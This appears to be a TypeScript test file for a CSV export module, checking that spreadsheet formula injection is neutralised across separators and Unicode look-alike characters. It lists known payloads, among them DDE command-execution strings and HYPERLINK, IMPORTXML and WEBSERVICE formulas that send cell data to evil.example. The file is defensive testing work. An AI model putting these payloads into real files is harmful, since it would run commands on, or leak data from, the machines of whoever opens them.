/** CSV that a spreadsheet reads as it was meant, whatever a payer or a merchant wrote into it. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { byteOrderMark, type Cell, csvRow, neutral, type Separator } from './csv.ts'

/** Reads CSV with any separator, as a spreadsheet that is set to that separator would. */
function cellsOf(text: string, separator: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < text.length; at++) {
    const letter = text[at]!
    if (isQuoted) {
      if (letter === '"' && text[at + 1] === '"') cell += text[at++]
      else if (letter === '"') isQuoted = false
      else cell += letter
    } else if (letter === '"' && cell === '') isQuoted = true
    else if (letter === '\r' && text[at + 1] === '\n') continue
    else if (letter === separator || letter === '\n') {
      rows.at(-1)!.push(cell)
      cell = ''
      if (letter === '\n') rows.push([])
    } else cell += letter
  }
  return rows.slice(0, -1)
}

for (const [cells, separator, expected] of [
  [['a', 'b'], ';', 'a;b\r\n'],
  [['a', 'b'], ',', 'a,b\r\n'],
  [[null, '', 'x'], ';', ';;x\r\n'],
  [['say "hi"'], ';', '"say ""hi"""\r\n'],
  [['a;b', 'c,d', 'e\nf'], ';', '"a;b";"c,d";"e\nf"\r\n'],
  [['Иванов И.'], ';', 'Иванов И.\r\n'],
  [[150_050n, 0n, 5n, -5n], ';', '1500,50;0,00;0,05;-0,05\r\n'],
  [[150_050n, -150_050n], ',', '1500.50,-1500.50\r\n'],
  [[99_999_999_999_999_999_999n], ';', '999999999999999999,99\r\n'],
  [[12, 0], ';', '12;0\r\n'],
  [['-5'], ';', "'-5\r\n"],
  [[' spaces '], ';', '" spaces "\r\n'],
] as [Cell[], Separator, string][]) {
  test(`${JSON.stringify(cells.map(String))} by ${separator}`, () =>
    assert.equal(csvRow(cells, separator), expected))
}

/** What has been tried against exports: OWASP, and the payloads of public reports. */
const attacks = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A2:E2),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\t',
  '\rtext',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '\u0001=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1',
  '﹢1',
  '﹣1',
  '﹫SUM',
  '⁼1',
  '₊1',
  '−1',
  '=\ud800',
  '"=1+1',
  '"=1+1"',
  '";=1+1;"',
  '",=1+1,"',
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n=1+1',
  'a, =1+1',
  'a;"=1+1"',
  '+79001234567',
]

const beginsFormula = (cell: string) => /^[\p{Z}\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell)
const isFormula = (cell: string) => beginsFormula(cell) || /^[\t\r\n]/.test(cell)

for (const attack of attacks) {
  test(`${JSON.stringify(attack)} is text in every spreadsheet`, () => {
    for (const written of [';', ','] as const) {
      const row = csvRow(['id', attack, 1n], written)
      assert.deepEqual(cellsOf(row, written)[0]!.slice(0, 1), ['id'])
      const [, cell, money] = cellsOf(row, written)[0]!
      assert.ok(!isFormula(cell!), cell)
      assert.equal(money, written === ';' ? '0,01' : '0.01')
      // Opened with another separator the row falls into other cells: none of them is a formula either.
      for (const read of [';', ',', '\t', '|']) {
        for (const other of cellsOf(row, read).flat()) assert.ok(!beginsFormula(other), `${read} ${other}`)
      }
    }
  })
}

test('whatever the text, it is read back as it was neutralised, and is no formula', () => {
  const letters = fc.constantFrom(...'=+-@"\';,\t\r\n \u00a0\u200bаa1＝－'.split(''))
  fc.assert(
    fc.property(fc.array(fc.string({ unit: letters }), { minLength: 1 }), (texts) => {
      for (const separator of [';', ','] as const) {
        const row = csvRow(['first', ...texts], separator)
        const [cells, ...more] = cellsOf(row, separator)
        assert.deepEqual([cells, more], [['first', ...texts.map(neutral)], []])
        for (const cell of cells!) assert.ok(!isFormula(cell), JSON.stringify(cell))
        for (const read of [';', ',', '\t']) {
          for (const cell of cellsOf(row, read).flat())
            assert.ok(!beginsFormula(cell), JSON.stringify([read, row]))
        }
      }
    }),
    { numRuns: 2_000 },
  )
})

test('harmless text stays as it is', () => {
  for (const text of ['', 'Иванов', 'a=b', 'KT48219034', 'x-y', 'mail@shop.example', '1.5', '’', "O'Neil"]) {
    assert.equal(neutral(text), text)
  }
})

test('the mark of UTF-8 is the three bytes that spreadsheets look for', () => {
  assert.deepEqual([...Buffer.from(byteOrderMark)], [0xef, 0xbb, 0xbf])
})
